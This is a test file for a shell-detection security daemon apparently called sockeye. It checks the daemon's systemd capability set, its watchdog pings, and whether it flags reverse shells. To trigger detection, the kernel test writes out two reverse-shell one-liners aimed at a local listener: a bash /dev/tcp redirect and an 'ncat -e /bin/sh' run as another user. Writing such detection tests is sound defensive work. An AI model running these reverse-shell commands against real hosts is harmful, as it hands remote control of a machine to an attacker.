/**
 * The systemd unit as fleets run it (packaging/sockeye.service): the daemon started with
 * exactly the unit's CapabilityBoundingSet still attaches, reports a direct reverse shell
 * (TRC-101) and a relay shell run by another user (RELAY-001: /proc of other users' processes),
 * runs its reader SCHED_RR, and pings systemd's watchdog from its event loop. systemd is not
 * PID 1 on these machines, so a datagram socket plays NOTIFY_SOCKET.
 */
import { afterEach, describe, expect, it } from "vitest";
import { spawn, spawnSync, type ChildProcess } from "node:child_process";
import { mkdtempSync, readFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { cgroup2Root, commandingListener, inCI, kernelTier, run } from "./harness.js";

const tier = kernelTier();
const UNIT = "packaging/sockeye.service";
const CLI = "dist/cli/main.js";

/** The unit's CapabilityBoundingSet as setpriv's --bounding-set argument. */
function unitCapabilities(): string[] {
  const line = readFileSync(UNIT, "utf8").match(/^CapabilityBoundingSet=(.+)$/m);
  expect(line, "the unit has a CapabilityBoundingSet").not.toBeNull();
  return line![1]!.trim().split(/\s+/);
}


async function until(check: () => boolean, what: string, timeoutMs = 15_000): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!check()) {
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 50));
  }
}

describe("packaging/sockeye.service", () => {
  const hasAnalyze = spawnSync("systemd-analyze", ["--version"]).status === 0;
  it.runIf(hasAnalyze || inCI)("passes systemd-analyze verify", () => {
    const r = spawnSync("systemd-analyze", ["verify", UNIT], { encoding: "utf8" });
    expect(r.stderr).toBe("");
    expect(r.status).toBe(0);
  });

  it("names each capability it keeps and no CAP_SYS_ADMIN", () => {
    const caps = unitCapabilities();
    expect(caps).toEqual(expect.arrayContaining(["CAP_BPF", "CAP_PERFMON"]));
    expect(caps).not.toContain("CAP_SYS_ADMIN");
    const text = readFileSync(UNIT, "utf8");
    for (const cap of caps) expect(text, `${cap} is explained in a comment`).toMatch(new RegExp(`^#.*\\b${cap}\\b`, "m"));
  });
});

describe.runIf(tier.run)("kernel: the daemon with exactly the unit's capabilities", () => {
  let daemon: ChildProcess | undefined;
  let notify: ChildProcess | undefined;
  afterEach(() => {
    if (daemon?.exitCode === null) daemon.kill("SIGKILL");
    notify?.kill();
  });

  it("attaches, reports a direct shell and another user's relay shell, and pings the watchdog", async () => {
    const caps = unitCapabilities();
    const bounding = ["-all", ...caps.map((c) => `+${c.replace(/^CAP_/, "").toLowerCase()}`)].join(",");

    // NOTIFY_SOCKET: node has no unix datagram sockets; python's socket module does.
    const socketPath = join(mkdtempSync(join(tmpdir(), "sockeye-notify-")), "notify");
    notify = spawn("python3", ["-c", [
      "import socket",
      "s=socket.socket(socket.AF_UNIX,socket.SOCK_DGRAM)",
      `s.bind(${JSON.stringify(socketPath)})`,
      "print('bound',flush=True)",
      "s.settimeout(30)",
      "while True: print(s.recv(4096).decode().replace(chr(10),' '),flush=True)",
    ].join("\n")], { stdio: ["ignore", "pipe", "ignore"] });
    let heard = "";
    notify.stdout!.on("data", (d) => (heard += d));
    await until(() => heard.includes("bound"), "the notify socket");

    const env = { ...process.env, NOTIFY_SOCKET: socketPath, WATCHDOG_USEC: "400000" };
    daemon = spawn("setpriv", [`--bounding-set=${bounding}`, "--inh-caps=-all", process.execPath, CLI, "run", "--format", "json", "--stats-interval", "0"],
      { stdio: ["ignore", "pipe", "pipe"], env });
    let stdout = "", stderr = "";
    daemon.stdout!.on("data", (d) => (stdout += d));
    daemon.stderr!.on("data", (d) => (stderr += d));
    const exited = new Promise<number | null>((resolve) => daemon!.on("exit", (code) => resolve(code)));
    await until(() => /"message":"sensor ready"/.test(stderr) || daemon!.exitCode !== null, "ready");
    expect(stderr).toMatch(/"message":"sensor ready"/);
    // The daemon really runs without the others (its effective set is the bounding set).
    const capEff = BigInt(`0x${readFileSync(`/proc/${daemon.pid}/status`, "utf8").match(/^CapEff:\s*([0-9a-f]+)$/m)![1]}`);
    expect(capEff & (1n << 21n)).toBe(0n); // CAP_SYS_ADMIN
    // The unit's CAP_NET_ADMIN loads udp_send's cgroup programs (where cgroup v2 is mounted at its root).
    if (cgroup2Root() !== undefined) expect(stderr).toMatch(/"live":\[[^\]]*"cgroup\/sendmsg\{4,6\}"/);
    if (spawnSync("chrt", ["-r", "1", "true"]).status === 0) expect(stderr).toMatch(/"scheduling":\{"reader":"SCHED_RR 1"/);

    // A direct shell, as root.
    const direct = await commandingListener("127.0.0.1");
    await run("timeout", ["-s", "KILL", "10", "bash", "-c", `bash -i >& /dev/tcp/127.0.0.1/${direct.port} 0>&1`]);
    expect(await direct.answered).toBe(true);
    // A relay shell of another user: judging it reads that user's /proc/<pid>/fd.
    const relay = await commandingListener("127.0.0.1");
    await run("timeout", ["-s", "KILL", "10", "setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "ncat", "127.0.0.1", String(relay.port), "-e", "/bin/sh"]);
    expect(await relay.answered).toBe(true);

    const findings = () => stdout.trim().split("\n").filter(Boolean).map((l) => JSON.parse(l) as { rule: { id: string }; destination?: { port: number }; user?: { id: string } });
    const forPort = (port: number) => findings().filter((f) => f.destination?.port === port);
    await until(() => forPort(direct.port).length > 0 && forPort(relay.port).length > 0, "both findings", 5_000).catch(() => {});
    expect(forPort(direct.port).map((f) => f.rule.id)).toEqual(["TRC-101"]);
    expect(forPort(relay.port).map((f) => f.rule.id)).toEqual(["RELAY-001"]);
    expect(forPort(relay.port)[0]!.user?.id).toBe("65534");
    await direct.close();
    await relay.close();

    // Pinged every 200 ms (half of WATCHDOG_USEC): several by now.
    expect(heard.match(/WATCHDOG=1/g)?.length ?? 0).toBeGreaterThanOrEqual(3);
    daemon.kill("SIGTERM");
    expect(await exited).toBe(0);
  }, 60_000);

  it("without CAP_SYS_PTRACE and CAP_DAC_READ_SEARCH it starts and says which shells it cannot judge", async () => {
    daemon = spawn("setpriv", ["--bounding-set=-all,+bpf,+perfmon", "--inh-caps=-all", process.execPath, CLI, "run", "--format", "json", "--stats-interval", "0"],
      { stdio: ["ignore", "ignore", "pipe"] });
    let stderr = "";
    daemon.stderr!.on("data", (d) => (stderr += d));
    const exited = new Promise<number | null>((resolve) => daemon!.on("exit", (code) => resolve(code)));
    await until(() => /running without CAP_DAC_READ_SEARCH/.test(stderr) || daemon!.exitCode !== null, "the warnings");
    expect(stderr).toMatch(/"level":"warn","message":"running without CAP_SYS_PTRACE","loss":"[^"]*RELAY-001/);
    expect(stderr).toMatch(/"level":"warn","message":"running without CAP_DAC_READ_SEARCH"/);
    daemon.kill("SIGTERM");
    expect(await exited).toBe(0);
  }, 30_000);
});
